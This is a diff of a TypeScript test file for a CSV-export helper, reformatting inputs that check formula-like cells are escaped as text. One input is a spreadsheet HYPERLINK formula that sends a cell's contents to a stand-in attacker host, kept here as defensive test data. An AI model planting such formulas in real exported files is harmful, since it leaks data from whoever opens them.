@@ -4,10 +4,20 @@ import { parse } from 'csv-parse/sync';
 import { spreadsheetText, toCsv } from './csv.ts';
 
 test('text that a spreadsheet would run as a formula is kept as text', () => {
-  for (const text of ['=HYPERLINK("http://attacker.invalid/?x="&A2,"Open record")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '-', '- dropped out']) {
+  for (const text of [
+    '=HYPERLINK("http://attacker.invalid/?x="&A2,"Open record")',
+    '+1+1',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '-',
+    '- dropped out',
+  ]) {
     assert.equal(spreadsheetText(text), `'${text}`, JSON.stringify(text));
   }
-  for (const text of ['Alex Smith', '', '12.50', '-12.50', '-3', "O'Neill", ' =1']) assert.equal(spreadsheetText(text), text, JSON.stringify(text));
+  for (const text of ['Alex Smith', '', '12.50', '-12.50', '-3', "O'Neill", ' =1'])
+    assert.equal(spreadsheetText(text), text, JSON.stringify(text));
 });
 
 test('every text cell of a CSV is made safe, the header and numbers are written as they are', () => {
